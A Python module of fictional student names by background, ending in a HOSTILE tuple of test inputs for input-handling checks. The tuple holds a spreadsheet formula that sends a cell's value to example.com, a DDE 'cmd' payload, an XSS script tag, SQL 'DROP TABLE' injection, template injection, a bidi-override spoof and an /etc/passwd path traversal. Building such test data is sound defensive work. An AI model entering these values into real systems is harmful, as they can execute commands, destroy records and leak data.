"""Names for made-up students: common ones of several backgrounds, and some that software gets wrong."""

from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True, slots=True)
class Background:
    """Names that go together; ``share`` is how many of a thousand students have them."""

    share: int
    ethnicities: tuple[str, ...]
    girls: tuple[str, ...]
    boys: tuple[str, ...]
    families: tuple[str, ...]


def _list(text: str) -> tuple[str, ...]:
    return tuple(name.strip().replace("_", " ") for name in text.split())


_PLAIN: Final = Background(
    share=460,
    ethnicities=("9", "9", "9", "9", "9", "9", "12", "0", "1"),
    girls=_list(
        "Abigail Addison Alexis Alice Allison Amelia Amy Anna Audrey Ava Beatrice Bethany Brianna Brooke Caitlin"
        " Caroline Cassidy Charlotte Chloe Claire Clara Daisy Eleanor Eliza Ella Emily Emma Erin Eva Evelyn Faith"
        " Fiona Georgia Grace Hailey Hannah Harper Hazel Heidi Helen Isabel Ivy Jane Jenna Jessica Jillian"
        " Josephine Julia Katherine Kayla Kelly Kylie Laura Lauren Leah Lily Lucy Lydia Mackenzie Madeline Maggie"
        " Maren Megan Molly Nora Olivia Paige Penelope Phoebe Quinn Rachel Rebecca Riley Rose Ruby Ruth Sadie"
        " Samantha Sarah Savannah Sienna Sophie Stella Tessa Vera Violet Willa Zoe Mary_Kate Anna-Lena"
    ),
    boys=_list(
        "Aaron Adam Aidan Alex Andrew Anthony Asher Austin Benjamin Blake Brandon Caleb Cameron Carter Charles"
        " Chase Christian Cole Colin Connor Cooper Daniel David Dylan Edward Eli Elliot Ethan Evan Finn Gabriel"
        " Gavin George Grant Hayden Henry Hunter Ian Isaac Jack Jackson Jacob James Jared Jason Jeremy Joel John"
        " Jonah Joseph Joshua Julian Kevin Kyle Landon Leo Levi Liam Logan Lucas Luke Mason Matthew Max Miles"
        " Nathan Nicholas Noah Nolan Oliver Oscar Owen Parker Patrick Paul Peter Robert Ryan Sam Sawyer Sean Simon"
        " Spencer Theo Thomas Tyler Victor Wesley William Wyatt Zachary Jean-Luc John_Paul"
    ),
    families=_list(
        "Abbott Adams Anderson Bailey Baker Barnes Becker Bennett Berg Bishop Blake Boyd Brandt Brooks Burke Burns"
        " Campbell Carlson Carpenter Chapman Christensen Clark Collins Cooper Crawford Dahl Dawson Dixon Douglas"
        " Duncan Eriksen Evans Ferguson Fischer Fisher Fletcher Foster Fox Gardner Gibson Graham Grant Gray Greene"
        " Griffin Hagen Hale Hall Hanson Harper Harris Hart Hayes Henry Hoffman Holm Holmes Hughes Hunt Jensen"
        " Johansen Johnson Keller Kelly Kennedy Knight Koch Larson Lawrence Lewis Lindgren Long Lund MacDonald"
        " Mason McCarthy McKay Meyer Miller Mitchell Moore Morgan Murphy Nash Nelson Nilsson Norris O'Brien"
        " O'Connor O’Dell Olson Owens Palmer Parker Pearson Peterson Phillips Pierce Porter Powell Price Quinn Reed"
        " Reynolds Rhodes Rice Roberts Ross Russell Schmidt Schneider Schultz Shaw Shea Smith Snyder Sorensen"
        " Spencer Stewart Stone Sullivan Sutton Swanson Taylor Thomas Thompson Tucker Turner Wagner Walker Walsh"
        " Ward Warner Watson Webb Weber Wells West Wheeler White Wood Wright Young Zimmerman de_Vries van_der_Berg"
        " Smith-Jones Hall-Larson St._John"
    ),
)

_LATIN: Final = Background(
    share=260,
    ethnicities=("4", "4", "4", "4", "4", "12", "0"),
    girls=_list(
        "Adriana Alejandra Alma Ana Andrea Ángela Beatriz Camila Carla Carolina Cecilia Celeste Cristina Daniela"
        " Diana Elena Esmeralda Esperanza Fernanda Gabriela Gloria Guadalupe Inés Isabela Itzel Jimena Josefina"
        " Juana Karina Leticia Lourdes Lucía Luz Maria María_José Mariana Marisol Mercedes Mónica Natalia Noemí"
        " Paloma Paola Pilar Raquel Renata Rocío Rosa Sofía Susana Teresa Valentina Valeria Verónica Ximena Yolanda"
    ),
    boys=_list(
        "Adrián Alberto Alejandro Alfonso Andrés Ángel Antonio Armando Arturo Benito Carlos César Cristian Diego"
        " Eduardo Emilio Enrique Esteban Felipe Fernando Francisco Gerardo Gilberto Guillermo Gustavo Héctor Hugo"
        " Ignacio Iván Jaime Javier Jesús Joaquín Jorge José José_Luis Juan Juan_Carlos Julio Leonardo Lorenzo Luis"
        " Manuel Marco Mario Martín Mateo Mauricio Miguel Nicolás Óscar Pablo Pedro Rafael Ramón Raúl Ricardo"
        " Roberto Rodrigo Rubén Salvador Santiago Sergio Tomás Vicente Xavier"
    ),
    families=_list(
        "Acosta Aguilar Álvarez Armijo Baca Benavidez Cabrera Calderón Campos Cárdenas Carrillo Castillo Castro"
        " Chávez Contreras Córdova Cortez Cruz De_la_Cruz De_León Delgado Díaz Domínguez Durán Espinoza Estrada"
        " Fernández Flores Fuentes Gallegos García García-López Garza Gómez González Griego Guerrero Gutiérrez"
        " Hernández Herrera Ibarra Jaramillo Jiménez Juárez Lara León López Lovato Lucero Luna Maestas Maldonado"
        " Márquez Martínez Medina Mejía Mendoza Molina Montoya Morales Moreno Muñoz Navarro Núñez Ochoa Ortega"
        " Ortiz Pacheco Padilla Peña Pérez Quintana Ramírez Ramos Reyes Ríos Rivera Rodríguez Romero Ruiz Saenz"
        " Salazar Sánchez Sandoval Santiago Serrano Silva Soto Suárez Tafoya Torres Trujillo Valdez Vargas Vásquez"
        " Vega Velasco Vigil Villarreal Zamora"
    ),
)

_ASIAN: Final = Background(
    share=130,
    ethnicities=("2", "2", "2", "2", "8", "12", "0"),
    girls=_list(
        "Aanya Aiko Amrita Anh Anjali Bao-Vy Bo-ra Chi Deepa Dao Eun-ji Hana Haruka Hsin-yi Hye-jin Ishani Jia"
        " Jing Kavya Keiko Lakshmi Lan Lei Linh Mai Mei Mei-Ling Meera Minh Naomi Nhi Pa_Houa Pooja Priya Quyên"
        " Rani Sakura Sana Seo-yeon Shreya Soo-min Thảo Thủy Trang Uyên Xiu Yan Yuki Yuna Mai_See Leilani Kailani"
    ),
    boys=_list(
        "Akira Anand Arjun Arun Bao Chang Chue Daichi Dinh Duc Hai Haruto Hiro Hoàng Huy Hyun-woo Jae Jian Jin"
        " Joon-ho Karthik Kenji Khoa Kou Long Minh-Khôi Nam Nikhil Phong Quang Rahul Ravi Rohan Sanjay Seung Shan"
        " Siddharth Tai Takumi Thanh Tou Tuấn Vikram Wei Xiang Yong Youa Yuto Zhen Keoni Makoa"
    ),
    families=_list(
        "Agarwal Bhatt Bùi Chan Chang Chaudhary Chen Cheng Cho Choi Chou Đặng Desai Đỗ Fang Fujita Ghosh Gupta Ha"
        " Her Hoàng Huang Huỳnh Ito Iyer Jain Kang Kapoor Kaur Khang Kim Kimura Krishnan Kumar Lâm Lau Lê Lee Li"
        " Liang Lim Lin Liu Lo Lor Mehta Moua Nair Nakamura Ngô Nguyễn Nguyen Ong Park Patel Pham Phan Rao Reddy"
        " Sato Shah Sharma Singh Suzuki Tan Tanaka Thao Tran Trần Vang Võ Vue Wang Watanabe Wong Wu Xiong Xu"
        " Yamamoto Yang Yoon Zhang Zhao Kahale"
    ),
)

_AFRICAN: Final = Background(
    share=110,
    ethnicities=("3", "3", "3", "3", "3", "12", "0"),
    girls=_list(
        "Aaliyah Aisha Amara Amina Asha Ayaan Chidinma Destiny Ebony Fadumo Fatima Halima Hodan Imani Jada Jasmine"
        " Khadija Kiara Layla Makayla Maryam Nala Nia Nyah Raven Safiya Sahra Serenity Shanice Simone Sumaya Tiana"
        " Zahra Zainab"
    ),
    boys=_list(
        "Abdi Abdullahi Ahmed Amari Andre Ayub Chidi Dante Darius Darnell Deshawn Elijah Emeka Ibrahim Isaiah"
        " Ismail Jabari Jamal Jaylen Kareem Khalil Kofi Kwame Malik Marcus Mohamed Mustafa Omar Quentin Rashad"
        " Terrell Trey Tyrone Yusuf"
    ),
    families=_list(
        "Abdi Abdullahi Adeyemi Ahmed Ali Banks Bell Booker Byrd Coleman Daniels Dorsey Dubois Farah Franklin"
        " Freeman Gaines Hassan Hussein Ibrahim Jackson Jama Jefferson Jenkins Johnson Jones Joseph King Mensah"
        " Mohamed Mosley Muhammad Nur Nwosu Okafor Okoro Osman Owusu Randolph Robinson Sharif Simmons Tate Warsame"
        " Washington Williams Yusuf"
    ),
)


def _rare(girls: str, boys: str, families: str, ethnicity: str = "9") -> Background:
    """Return one of the backgrounds that only a few students share."""
    return Background(4, (ethnicity, ethnicity, "0"), _list(girls), _list(boys), _list(families))


_SELDOM: Final = (
    _rare("Анна Ольга Дарья", "Иван Дмитрий Сергей", "Ковальчук Шевченко Бондар"),
    _rare("Ελένη Μαρία", "Γιώργος Νίκος", "Αλεξίου Οικονόμου"),
    _rare("مريم نور", "يوسف كريم", "الحسن حداد"),
    _rare("נועה תמר", "דוד יונתן", "כהן לוי"),
    _rare("さくら 美咲", "蓮 翔太", "田中 佐藤", "2"),
    _rare("美玲 思雨", "伟 子轩", "王 陈", "2"),
    _rare("지우 서연", "민준 도윤", "김 박", "2"),
    _rare("अनन्या दीया", "आरव विहान", "शर्मा वर्मा", "2"),
    _rare("Þóra Sigríður Zoë", "Bjørn Björn Søren", "Ødegård Åkesson Guðmundsson Straßer"),
    _rare("Łucja Zuzanna Jiřina", "Łukasz Ondřej Michał", "Wójcik Dvořák Łuczak Şahin"),
    _rare("Kailani Leilani Nāone", "Nuʻuanu Makoa Keoni", "Kahanamoku Kealoha-Nāone Kalākaua", "8"),
    _rare("Aiyana Dezba Wiyaka", "Ahiga Tse Chaska", "Begay Yazzie Two_Bulls Whitehorse", "1"),
)

BACKGROUNDS: Final = (_PLAIN, _LATIN, _ASIAN, _AFRICAN, *_SELDOM)

# Names that would do harm where somebody pasted text together: on screen, in a spreadsheet, in SQL, in a file name.
HOSTILE: Final = (
    ('=HYPERLINK("https://example.com/?x="&A2,"Open")', "Formula"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "Spreadsheet"),
    ("<script>alert(1)</script>", "Angle & Bracket"),
    ("Robert'); DROP TABLE students;--", "Tables"),
    ("Sunny\u202edlroW", "Backwards"),
    ("{{ 7 * 7 }}", "${braces}"),
    ("Null", "Null"),
    ("../../../etc/passwd", "Path"),
    ("Rhoshandiatellyneshiaunneveshenk Koyaanisquatsiuth", "Featherstonehaugh-Cholmondeley-Majoribanks"),
    ("Xóchitl-Citlalli", 'O"Quote, Comma'),
)
